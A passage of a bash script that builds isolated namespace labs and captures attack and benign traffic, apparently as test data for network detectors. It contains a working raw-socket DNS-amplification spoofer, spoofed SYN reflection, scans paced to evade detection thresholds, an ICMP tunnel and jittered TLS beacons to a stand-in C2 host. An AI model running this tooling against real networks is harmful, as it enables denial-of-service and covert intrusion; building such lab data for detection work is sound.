      urlsA+=("http://$V_IP${pages[(r + i) % 9]}")
      urlsB+=("http://$V_IP3${pages[(r * 2 + i) % 9]}")
      outs+=(-o /dev/null)
    done
    if ((r % 4 == 0)); then na timeout 10 "${DIG[@]}" +short www.lab.test A >>"$LOG/busy.out" 2>&1 || true; fi
    if ((r % 4 == 2)); then na timeout 10 "${DIG[@]}" +short files.lab.test A >>"$LOG/busy.out" 2>&1 || true; fi
    na timeout 10 curl -s -A "$UA_FIREFOX" "${outs[@]}" -w '%{http_code}\n' "${urlsA[@]}" >>"$LOG/busy.out" 2>&1 || true
    na timeout 10 curl -s -A "$UA_FIREFOX" "${outs[@]}" -w '%{http_code}\n' "${urlsB[@]}" >>"$LOG/busy.out" 2>&1 || true
    sleep "$(printf '%d.%d' $(((4 + RANDOM % 13) / 10)) $(((4 + RANDOM % 13) % 10)))"
  done
  cap_stop
}

# ---------------------------------------------------------------- stealth (issue 9)
# Their own lab, so they never touch twp-*: four namespaces on one bridge (a 5th
# namespace holds the bridge), subnet 10.77.9.0/24:
#   tws-att  10.77.9.1 (attacker / external host), .11-.15 (split-scan sources)
#   tws-ref  10.77.9.21-.24: "reflectors" (dnsmasq with large TXT records, http on :80)
#   tws-vic  10.77.9.2 (scanned server, http :80), 10.77.9.66 (home workstation:
#            the spoofed victim of the reflections, the ICMP-tunnel and TLS-beacon client)
# Captures are taken on tws-v inside tws-vic: the victim's own wire.
S_A=10.77.9.1 S_SRV=10.77.9.2 S_WS=10.77.9.66
S_SPLIT=(10.77.9.11 10.77.9.12 10.77.9.13 10.77.9.14 10.77.9.15)
S_REF=(10.77.9.21 10.77.9.22 10.77.9.23 10.77.9.24)
sa() { ip netns exec tws-att "$@"; }
sr() { ip netns exec tws-ref "$@"; }
sv() { ip netns exec tws-vic "$@"; }

stealth_down() { local ns; for ns in "${S_NS[@]}"; do ip netns del "$ns" 2>/dev/null || true; done; }

stealth_up() {
  ((S_READY)) && return 0
  S_UP=1
  stealth_down
  local ns
  for ns in "${S_NS[@]}"; do
    ip netns add "$ns"
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$ns" link set lo up
  done
  ip -n tws-br link add br0 type bridge
  ip -n tws-br link set br0 up
  local i=1
  for ns in tws-att tws-ref tws-vic; do
    local dev=tws-${ns#tws-}; dev=${dev:0:5}
    ip link add "$dev" netns "$ns" type veth peer name "p$i" netns tws-br
    ip -n "$ns" link set "$dev" address 02:77:09:00:00:0$i
    ip netns exec "$ns" ethtool -K "$dev" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    ip netns exec tws-br ethtool -K "p$i" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    ip -n tws-br link set "p$i" master br0
    ip -n tws-br link set "p$i" up
    ip -n "$ns" link set "$dev" up
    i=$((i + 1))
  done
  ip -n tws-att addr add $S_A/24 dev tws-a
  for i in "${S_SPLIT[@]}"; do ip -n tws-att addr add "$i"/24 dev tws-a; done
  for i in "${S_REF[@]}"; do ip -n tws-ref addr add "$i"/24 dev tws-r; done
  # the workstation's address first: it is the primary one, so what tws-vic starts (the
  # tunnel, the beacon) comes from 10.77.9.66; 10.77.9.2 is the scanned server
  ip -n tws-vic addr add $S_WS/24 dev tws-v
  ip -n tws-vic addr add $S_SRV/24 dev tws-v
  # spoofed packets must leave the attacker and be answered by the reflectors
  for ns in tws-att tws-ref tws-vic; do
    ip netns exec "$ns" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
  done
  local PY=/usr/bin/python3
  mkdir -p "$WORK/wwws"; gen_site "$WORK/wwws" "stealth lab server"
  head -c 300000 /dev/urandom >"$WORK/wwws/blob.bin"
  bg s-http "tws-vic" $PY "$WORK/srv.py" $S_SRV 80 "$WORK/wwws"
  bg s-httpref "tws-ref" $PY "$WORK/srv.py" 0.0.0.0 80 "$WORK/wwws"
  bg s-httpext "tws-att" $PY "$WORK/srv.py" $S_A 8080 "$WORK/wwws"
  # dnsmasq on the reflectors: one name with ~3 KB of TXT strings (an "ANY/TXT amplifier")
  local txt=() k
  for k in $(seq 1 12); do txt+=("$(head -c 180 /dev/urandom | base64 -w0 | head -c 240)"); done
  local IFS_OLD=$IFS; IFS=,
  bg s-dnsmasq "tws-ref" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
    --bind-interfaces --listen-address=${S_REF[0]} --port=53 --user=root --pid-file= \
    --edns-packet-max=4096 --local=/#/ --txt-record=big.amp.test,"${txt[*]}"
  IFS=$IFS_OLD
  # TLS "C2" on the external host
  openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=c2.example -days 2 \
    -keyout "$WORK/c2.key" -out "$WORK/c2.crt" >/dev/null 2>&1
  bg s-tls "tws-att" openssl s_server -quiet -accept $S_A:8443 -cert "$WORK/c2.crt" -key "$WORK/c2.key" -www
  wait_port tws-vic $S_SRV 80
  wait_port tws-ref ${S_REF[0]} 80
  wait_port tws-att $S_A 8080
  wait_port tws-att $S_A 8443
  wait_port tws-ref ${S_REF[0]} 53
  S_READY=1
}

scap_start() { # scap_start NAME SNAPLEN : like cap_start, on tws-v in tws-vic
  stealth_up
  CAP_NAME=$1
  CAP_FILE=$WORK/$1.pcap
  log "capture $1 (snaplen $2)"
  # `ip netns exec` itself (not the sv function, which would fork a subshell): $! is tcpdump
  ip netns exec tws-vic tcpdump -i tws-v -s "$2" -U -n -Z root -w "$CAP_FILE" >"$LOG/tcpdump-$1.log" 2>&1 &
  CAP_PID=$!
  local i
  for i in $(seq 1 100); do grep -qs 'listening on' "$LOG/tcpdump-$1.log" && break; sleep 0.05; done
  grep -qs 'listening on' "$LOG/tcpdump-$1.log" || { echo "tcpdump did not start" >&2; exit 1; }
  sleep 0.5
}

cap_nmap-t1-scan() {
  # nmap -T1 ("sneaky"): one probe every 15 s; 12 ports of 10.77.9.2 (80 open) ~ 3 min
  scap_start nmap-t1-scan 200
  sa timeout 300 nmap -n -Pn -sS -T1 -p 21,22,23,25,53,80,110,143,443,445,3389,8080 $S_SRV \
    >"$LOG/nmap-t1.out" 2>&1 || true
  cap_stop
}

cap_distributed-scan() {
  # one scan of 60 ports of 10.77.9.2 split over 5 source addresses (12 ports each,
  # disjoint), run at once; 3.2 s between probes keeps each source under port_scan's
  # triggers (12 < 15 fast, < 25 slow, scanlogd weight reset after 3 s)
  local ports=(21 22 23 25 53 79 80 88 110 111 135 139 143 389 443 445 465 514 587 631
    636 873 993 995 1025 1080 1433 1521 1723 2049 2121 2375 3000 3128 3306 3389 4444 5000 5060 5432
    5900 5984 6000 6379 6667 7001 8000 8008 8080 8081 8443 8888 9000 9090 9200 9418 10000 11211 27017 50000)
  local i j list pids=()
  scap_start distributed-scan 200
  for ((i = 0; i < 5; i++)); do
    list=''
    for ((j = i; j < 60; j += 5)); do list+=${list:+,}${ports[j]}; done
    sa timeout 120 nmap -n -Pn -sS -e tws-a -S "${S_SPLIT[i]}" --scan-delay 3200ms --max-retries 0 -p "$list" $S_SRV \
      >"$LOG/nmap-split-$i.out" 2>&1 &
    pids+=("$!")
  done
  for i in "${pids[@]}"; do wait "$i" || true; done
  cap_stop
}

cap_synack-reflection() {
  # TCP reflection: the attacker (10.77.9.1) sends SYNs with the workstation's address
  # 10.77.9.66 as source to four reflectors' ports 80 (open: SYN-ACK) and 81 (closed:
  # RST); the workstation receives SYN-ACKs and RSTs it never asked for (and answers
  # each SYN-ACK with a RST). 4 x 400 SYNs, 2 ms apart, random source ports.
  local r pids=()
  scap_start synack-reflection 96
  for r in "${S_REF[@]}"; do
    sa timeout 30 hping3 -I tws-a -S -a $S_WS -p 80 -c 300 -i u2000 "$r" >>"$LOG/hping-refl.out" 2>&1 &
    pids+=("$!")
    sa timeout 30 hping3 -I tws-a -S -a $S_WS -p 81 -c 100 -i u8000 "$r" >>"$LOG/hping-refl.out" 2>&1 &
    pids+=("$!")
  done
  for r in "${pids[@]}"; do wait "$r" || true; done
  cap_stop
}

cap_dns-amplification() {
  # DNS amplification: 120 spoofed queries (source 10.77.9.66, EDNS bufsize 4096,
  # "big.amp.test TXT", ~50 bytes) from the attacker to dnsmasq on 10.77.9.21; the
  # ~3 KB answers (IP-fragmented) land on the workstation, which never asked.
  cat >"$WORK/spoof_dns.py" <<'EOF'
import random, socket, struct, sys, time
src, dst, qname, count, gap = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rnd = random.Random(int(sys.argv[6]))
q = b"".join(bytes([len(l)]) + l.encode() for l in qname.split(".")) + b"\0" + struct.pack("!HH", 16, 1)
opt = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)            # EDNS0, 4096-byte UDP payload
for i in range(count):
    dns = struct.pack("!HHHHHH", rnd.randrange(1 << 16), 0x0100, 1, 0, 0, 1) + q + opt
    sport = rnd.randrange(1024, 65535)
    ps = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, 8 + len(dns))
    udp = struct.pack("!HHHH", sport, 53, 8 + len(dns), 0) + dns
    udp = udp[:6] + struct.pack("!H", csum(ps + udp)) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), rnd.randrange(1 << 16), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.sendto(ip + udp, (dst, 0))
    time.sleep(gap)
EOF
  scap_start dns-amplification 0
  sa timeout 30 /usr/bin/python3 "$WORK/spoof_dns.py" $S_WS ${S_REF[0]} big.amp.test 120 0.05 $SEED \
    >"$LOG/spoof-dns.out" 2>&1 || true
  cap_stop
}

cap_icmp-tunnel() {
  # ptunnel-ng: the workstation 10.77.9.66 tunnels a TCP connection inside ICMP echo
  # requests/replies to a ptunnel-ng proxy on the external host 10.77.9.1, which
  # forwards it to 10.77.9.1:8080; curl fetches 300 KB of random bytes through it, then
  # two small pages. The proxy host ignores echo itself (the proxy answers).
  stealth_up
  sa sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  bg s-ptunnel-proxy tws-att timeout 90 ptunnel-ng -r$S_A -R8080 -v 1 -o"$LOG/ptunnel-proxy.txt"
  sleep 1
  bg s-ptunnel-client tws-vic timeout 80 ptunnel-ng -p$S_A -l 2222 -r$S_A -R8080 -v 1 -o"$LOG/ptunnel-client.txt"
  wait_port tws-vic 127.0.0.1 2222
  scap_start icmp-tunnel 0
  {
    sv timeout 40 curl -sS -o /dev/null -w '%{http_code} %{size_download} %{time_total}\n' http://127.0.0.1:2222/blob.bin
    sleep 2
    sv timeout 20 curl -sS -o /dev/null -w '%{http_code} %{size_download}\n' http://127.0.0.1:2222/index.html
    sleep 2
    sv timeout 20 curl -sS -o /dev/null -w '%{http_code} %{size_download}\n' http://127.0.0.1:2222/about.html
  } >"$LOG/icmp-tunnel.out" 2>&1
  cap_stop
  sa sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}

cap_tls-beacon-jitter() {
  # the workstation checks in with a TLS "C2" (openssl s_server on 10.77.9.1:8443) 30
  # times, a new TLS connection each time, sleeping 4 s +-50 % (uniform 2.0-6.0 s)
  local i ms; RANDOM=$SEED
  scap_start tls-beacon-jitter 0
  for ((i = 1; i <= 30; i++)); do
    printf 'GET /check?seq=%d HTTP/1.0\r\n\r\n' "$i" |
      sv timeout 5 openssl s_client -quiet -connect $S_A:8443 -servername c2.example >>"$LOG/tls-beacon.out" 2>&1 || true
    ms=$((2000 + RANDOM % 4001))
    sleep "$(printf '%d.%03d' $((ms / 1000)) $((ms % 1000)))"
  done
  cap_stop
}

cap_benign-ping() {
  # what icmp_tunnel must not call a tunnel: iputils ping from the workstation to the
  # external host with large payloads (40 x 1200 bytes, 0.2 s apart: 94 KB both ways in
  # 8 s), a pattern ping (-p, 30 x 512 bytes) and a default ping (10 x 56 bytes)
  scap_start benign-ping 0
  {
    sv timeout 20 ping -n -c 40 -i 0.2 -s 1200 $S_A
    sv timeout 20 ping -n -c 30 -i 0.2 -s 512 -p 5a17c0de $S_A
    sv timeout 20 ping -n -c 10 -i 0.2 $S_A
  } >"$LOG/benign-ping.out" 2>&1
  cap_stop
}

# ---------------------------------------------------------------- benign-workday (own namespaces)
# ~15.5 minutes of ordinary traffic from two workstations. Self-contained: its own two
# namespaces on 10.77.19.0/24 (twp19-cli, twp19-srv) and its own services, so it neither
# needs nor touches twp-att/twp-vic and can run while other captures are being made.
#   twp19-cli  tw19c  10.77.19.11 (workstation A), 10.77.19.12 (workstation B)  02:77:19:00:00:01
#   twp19-srv  tw19s  10.77.19.2 (www+dns+ssh), .3 (mirror), .4 (cloud uploads)  02:77:19:00:00:02
# HOME_NET for it: the workstations (10.77.19.8/29); the servers play the outside world.
WD_C=twp19-cli WD_S=twp19-srv
WD_A=10.77.19.11 WD_B=10.77.19.12 WD_WWW=10.77.19.2 WD_MIR=10.77.19.3 WD_CLOUD=10.77.19.4
WD_DURATION=${WD_DURATION:-930}      # seconds of traffic (packet time of the capture)
wc_() { ip netns exec "$WD_C" "$@"; }
ws_() { ip netns exec "$WD_S" "$@"; }

wd_net() {
  ip netns del "$WD_C" 2>/dev/null || true
  ip netns del "$WD_S" 2>/dev/null || true
  ip netns add "$WD_C"; ip netns add "$WD_S"; WD_NETS=1
  local ns
  for ns in "$WD_C" "$WD_S"; do
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$ns" link set lo up
  done
  ip link add tw19c netns "$WD_C" type veth peer name tw19s netns "$WD_S"
  ip -n "$WD_C" link set tw19c address 02:77:19:00:00:01
  ip -n "$WD_S" link set tw19s address 02:77:19:00:00:02
  wc_ ethtool -K tw19c tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  ws_ ethtool -K tw19s tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  ip -n "$WD_C" addr add $WD_A/24 dev tw19c
  ip -n "$WD_C" addr add $WD_B/24 dev tw19c
  ip -n "$WD_S" addr add $WD_WWW/24 dev tw19s
  ip -n "$WD_S" addr add $WD_MIR/24 dev tw19s
  ip -n "$WD_S" addr add $WD_CLOUD/24 dev tw19s
  ip -n "$WD_C" link set tw19c up
  ip -n "$WD_S" link set tw19s up
}

wd_files() {
  local w=$WORK/wd i
  mkdir -p "$w/www" "$w/mirror/pool" "$w/mirror/dists" "$w/cloud" "$w/up"
  # intranet/portal site: 14 pages with shared assets, a few apps' JSON
  gen_site "$w/www" "corp portal"
  for i in $(seq 1 12); do
    {
      printf '<!doctype html><html><head><title>page %s</title><link rel="stylesheet" href="/style.css"></head><body>\n' "$i"
      printf '<h1>Section %s</h1>\n' "$i"
      head -c $((2000 + i * 700)) /dev/urandom | base64 -w 76 | sed 's/^/<p>/; s/$/<\/p>/'
      printf '<a href="/p%s.html">next</a><img src="/logo.png"></body></html>\n' $((i % 12 + 1))
    } >"$w/www/p$i.html"
  done
  head -c 30000 /dev/urandom | base64 >"$w/www/app.js"
  printf 'ICO' >"$w/www/favicon.ico"
  # mirror: one 16 MiB image, 60 package-like files of 5-300 KB, an index
  head -c $((16 * 1024 * 1024)) /dev/urandom >"$w/mirror/pool/image-12.4.iso"
  RANDOM=$SEED
  for i in $(seq -w 1 60); do head -c $(((5 + RANDOM % 296) * 1024)) /dev/urandom >"$w/mirror/pool/pkg-$i.deb"; done
  ls "$w/mirror/pool" >"$w/mirror/dists/Packages"
  gen_site "$w/cloud" "cloud storage"
  # upload payloads
  head -c $((4 * 1024 * 1024)) /dev/urandom >"$w/up/report.pdf"
  head -c $((6 * 1024 * 1024)) /dev/urandom >"$w/up/photos.zip"
  head -c $((3 * 1024 * 1024)) /dev/urandom >"$w/up/slides.pptx"
  printf 'notes %s\n' $(seq 1 300) >"$w/up/notes.txt"
}

wd_services() {
  local PY=/usr/bin/python3 w=$WORK/wd
  bg wd-dnsmasq "$WD_S" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
    --bind-interfaces --listen-address=$WD_WWW --port=53 --user=root --pid-file= --local-ttl=300 \
    --log-queries --log-facility=- --local=/#/ \
    --host-record=www.corp.test,$WD_WWW --host-record=portal.corp.test,$WD_WWW \
    --host-record=intranet.corp.test,$WD_WWW --host-record=git.corp.test,$WD_WWW \
    --host-record=mirror.corp.test,$WD_MIR --host-record=deb.corp.test,$WD_MIR \
    --host-record=cloud.corp.test,$WD_CLOUD --host-record=mail.corp.test,$WD_WWW \
    --cname=docs.corp.test,portal.corp.test --cname=static.corp.test,www.corp.test \
    --mx-host=corp.test,mail.corp.test,10 --txt-record=corp.test,"v=spf1 mx -all"
  bg wd-www "$WD_S" $PY "$WORK/srv.py" $WD_WWW 80 "$w/www"
  bg wd-mirror "$WD_S" $PY "$WORK/srv.py" $WD_MIR 80 "$w/mirror"
  bg wd-cloud "$WD_S" $PY "$WORK/srv.py" $WD_CLOUD 8080 "$w/cloud"
  local sd=$WORK/wd/sshd
  mkdir -p "$sd"
  ssh-keygen -q -t ed25519 -N '' -f "$sd/host_ed25519" -C twp19-lab
  cat >"$sd/sshd_config" <<EOF
ListenAddress $WD_WWW:22
HostKey $sd/host_ed25519
PidFile $sd/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
AuthorizedKeysFile none
PermitRootLogin no
AllowUsers $SSH_USER
UsePAM no
MaxSessions 20
UseDNS no
PrintMotd no
PrintLastLog no
StrictModes no
Subsystem sftp internal-sftp
EOF
  if [[ ! -d /run/sshd ]]; then mkdir -p /run/sshd; chmod 755 /run/sshd; MADE_RUN_SSHD=1; fi
  /usr/sbin/sshd -t -f "$sd/sshd_config"
  bg wd-sshd "$WD_S" /usr/sbin/sshd -D -e -f "$sd/sshd_config"
  wait_port "$WD_S" $WD_WWW 53
  wait_port "$WD_S" $WD_WWW 80
  wait_port "$WD_S" $WD_MIR 80
  wait_port "$WD_S" $WD_CLOUD 8080
  wait_port "$WD_S" $WD_WWW 22
}

wd_rsleep() { # wd_rsleep MIN MAX : random pause MIN..MAX seconds (tenths), never periodic
  local t=$(($1 * 10 + RANDOM % (($2 - $1) * 10 + 1)))
  sleep "$((t / 10)).$((t % 10))"
}

wd_browse() { # wd_browse SRC : look a name up, fetch a page and its assets, maybe follow a link
  local src=$1 p=$((1 + RANDOM % 12)) host
  host=$(printf '%s\n' www portal intranet docs static | sed -n "$((1 + RANDOM % 5))p").corp.test
  wc_ timeout 5 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short "$host" A || true
  ((RANDOM % 3)) || wc_ timeout 5 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short "$host" AAAA || true
  wc_ timeout 15 curl -sS --interface "$src" -A "$UA_FIREFOX" -H "Host: $host" -w '%{http_code} %{url_effective}\n' \
    -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
    "http://$WD_WWW/p$p.html" "http://$WD_WWW/style.css" "http://$WD_WWW/logo.png" \
    "http://$WD_WWW/app.js" "http://$WD_WWW/favicon.ico" || true
  if ((RANDOM % 2)); then
    wd_rsleep 2 9
    wc_ timeout 15 curl -sS --interface "$src" -A "$UA_FIREFOX" -H "Host: $host" -w '%{http_code} %{url_effective}\n' \
      -o /dev/null -o /dev/null "http://$WD_WWW/p$((p % 12 + 1)).html" "http://$WD_WWW/api/status.json" || true
  fi
}

wd_dns() { # a few lookups, now and then a mistyped name (NXDOMAIN)
  local src=$1 n=$((2 + RANDOM % 3)) i q
  local qs=("www.corp.test A" "mail.corp.test A" "corp.test MX" "corp.test TXT" "git.corp.test A"
    "mirror.corp.test A" "cloud.corp.test A" "docs.corp.test A" "deb.corp.test AAAA" "intranet.corp.test A")
  for ((i = 0; i < n; i++)); do
    q=${qs[RANDOM % ${#qs[@]}]}
    # shellcheck disable=SC2086
    wc_ timeout 5 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short $q || true
    wd_rsleep 0 2
  done
  ((RANDOM % 8)) || wc_ timeout 5 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short wwww.corp.test A || true
}

wd_ssh() { # SRC CMD : one ssh login with the right password, one command
  wc_ timeout 60 sshpass -p "$SSH_PW" ssh "${SSH_OPTS[@]}" -b "$1" $SSH_USER@$WD_WWW "$2" </dev/null || true
}

wd_client() { # wd_client SRC SEED END : one workstation's background activity until END (epoch s)
  local src=$1 end=$3 n=0 r
  RANDOM=$2
  while (($(date +%s) < end && n < 400)); do
    n=$((n + 1)); r=$((RANDOM % 100))
    if ((r < 50)); then wd_browse "$src"
    elif ((r < 68)); then wd_dns "$src"
    elif ((r < 78)); then wd_ssh "$src" 'uptime; ls -la ~ | head -3; git --version 2>/dev/null; echo ok'
    elif ((r < 88)); then
      wc_ timeout 10 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short cloud.corp.test A || true
      wc_ timeout 15 curl -sS --interface "$src" -A "$UA_FIREFOX" -o /dev/null -w '%{http_code}\n' \
        "http://$WD_CLOUD:8080/api/item$((1 + RANDOM % 3)).json" || true
    elif ((r < 95)); then   # a small upload (form post of 20-200 KB)
      head -c $(((20 + RANDOM % 181) * 1024)) /dev/urandom |
        wc_ timeout 15 curl -sS --interface "$src" -A "$UA_FIREFOX" -o /dev/null -w '%{http_code}\n' \
          --data-binary @- "http://$WD_CLOUD:8080/upload/form-$n" || true
    else
      wc_ timeout 30 sshpass -p "$SSH_PW" scp "${SSH_OPTS[@]}" -o BindAddress="$src" "$WORK/wd/up/notes.txt" \
        $SSH_USER@$WD_WWW:/tmp/twp19-notes.txt </dev/null || true
    fi
    wd_rsleep 1 22
  done
}

wd_long_ssh() { # an ssh session kept open for minutes, output at irregular moments
  wc_ timeout 600 sshpass -p "$SSH_PW" ssh "${SSH_OPTS[@]}" -b "$1" $SSH_USER@$WD_WWW \
    "for i in \$(seq 1 $((WD_DURATION * 30 / 930 + 1))); do date; ps -eo pid,comm | head -8; df -h / | tail -1; sleep \$((2 + RANDOM % 17)); done" </dev/null || true
}

wd_upload() { # SRC FILE NAME
  wc_ timeout 120 curl -sS --interface "$1" -A "$UA_FIREFOX" -o /dev/null \
    -w '%{http_code} %{size_upload} %{time_total}\n' -T "$2" "http://$WD_CLOUD:8080/upload/$3" || true
}

wd_update_burst() { # an apt-like update: index, then 60 packages over 8 parallel connections
  local src=$1 u=() i
  wc_ timeout 10 dig -b "$src" @$WD_WWW +tries=1 +time=2 +short deb.corp.test A || true
  wc_ timeout 15 curl -sS --interface "$src" -A 'Debian APT-HTTP/1.3 (2.6.1)' -o /dev/null "http://$WD_MIR/dists/Packages" || true
  for i in $(seq -w 1 60); do u+=(-o /dev/null "http://$WD_MIR/pool/pkg-$i.deb"); done
  wc_ timeout 120 curl -sS --interface "$src" -A 'Debian APT-HTTP/1.3 (2.6.1)' --parallel --parallel-max 8 --no-progress-meter \
    --limit-rate 2M -w '%{http_code} %{size_download}\n' "${u[@]}" || true
}

cap_benign-workday() {
  ensure_user; wd_net; wd_files; wd_services
  local w=$WORK/wd logf=$LOG/benign-workday.out t0 end jobs=()
  CAP_NAME=benign-workday CAP_FILE=$WORK/benign-workday.pcap
  log "capture benign-workday (snaplen 192, ${WD_DURATION} s of traffic)"
  ip netns exec "$WD_S" tcpdump -i tw19s -s 192 -U -n -Z root -w "$CAP_FILE" >"$LOG/tcpdump-benign-workday.log" 2>&1 &
  CAP_PID=$!
  local i
  for i in $(seq 1 100); do grep -qs 'listening on' "$LOG/tcpdump-benign-workday.log" && break; sleep 0.05; done
  sleep 0.5
  t0=$(date +%s); end=$((t0 + WD_DURATION))
  {
    wd_client $WD_A $((SEED + 1)) "$end" >>"$logf.A" 2>&1 &
    jobs+=($!)
    wd_client $WD_B $((SEED + 2)) "$end" >>"$logf.B" 2>&1 &
    jobs+=($!)
    # the scheduled heavier parts (wall offsets from the start; each bounded by timeout)
    (
      RANDOM=$((SEED + 3))
      local d=$WD_DURATION
      sleep $((d * 120 / 930)); wd_long_ssh $WD_A &
      sleep $((d * 90 / 930));  wd_upload $WD_B "$w/up/report.pdf" report.pdf
      sleep $((d * 240 / 930)); wd_upload $WD_A "$w/up/photos.zip" photos.zip
      sleep $((d * 190 / 930)); wc_ timeout 120 curl -sS --interface $WD_A -A "$UA_FIREFOX" --limit-rate 3M -o /dev/null \
        -w '%{http_code} %{size_download} %{time_total}\n' "http://$WD_MIR/pool/image-12.4.iso" || true
      sleep $((d * 60 / 930));  wd_update_burst $WD_B
      sleep $((d * 70 / 930));  wd_upload $WD_B "$w/up/slides.pptx" slides.pptx
      wait
    ) >>"$logf.sched" 2>&1 &
    jobs+=($!)
    for i in "${jobs[@]}"; do wait "$i" || true; done
  }
  cap_stop
  ip netns del "$WD_C" 2>/dev/null; ip netns del "$WD_S" 2>/dev/null; WD_NETS=0
}


ALL=(dns-basic http-basic http-snaplen-keepalive ssh-login
  nmap-syn-scan nmap-connect-scan nmap-udp-scan nmap-ping-sweep nmap-slow-scan
  hping3-syn-flood hping3-icmp-flood ssh-bruteforce-fail ssh-bruteforce-success
  dns-tunnel dns-nxdomain-burst http-path-scan large-upload beacon
  benign-browsing benign-dns benign-ssh benign-busy
  nmap-t1-scan distributed-scan synack-reflection dns-amplification icmp-tunnel tls-beacon-jitter benign-ping
  benign-workday)
# the captures of the stealth lab (their own namespaces, tws-*): the twp-* lab is not needed for them
STEALTH=(nmap-t1-scan distributed-scan synack-reflection dns-amplification icmp-tunnel tls-beacon-jitter benign-ping)
# every capture that brings its own lab (the stealth ones, benign-workday's twp19-*)
OWN_LAB=("${STEALTH[@]}" benign-workday)

main() {
  local todo=("$@") c
  ((${#todo[@]})) || todo=("${ALL[@]}")
  for c in "${todo[@]}"; do
    declare -F "cap_$c" >/dev/null || { echo "unknown capture: $c (known: ${ALL[*]})" >&2; exit 2; }
  done
  ensure_tools
  write_helpers
  local lab=0 st
  for c in "${todo[@]}"; do
    lab=1
    for st in "${OWN_LAB[@]}"; do [[ $c == "$st" ]] && lab=0; done
    ((lab)) && break
  done
  if ((lab)); then
    LAB_UP=1
    ensure_user
    setup_net
    start_services
  fi
  write_versions
  for c in "${todo[@]}"; do "cap_$c"; done
  log "done; logs in $LOG (set KEEP_WORK=1 to keep them)"
}

main "$@"
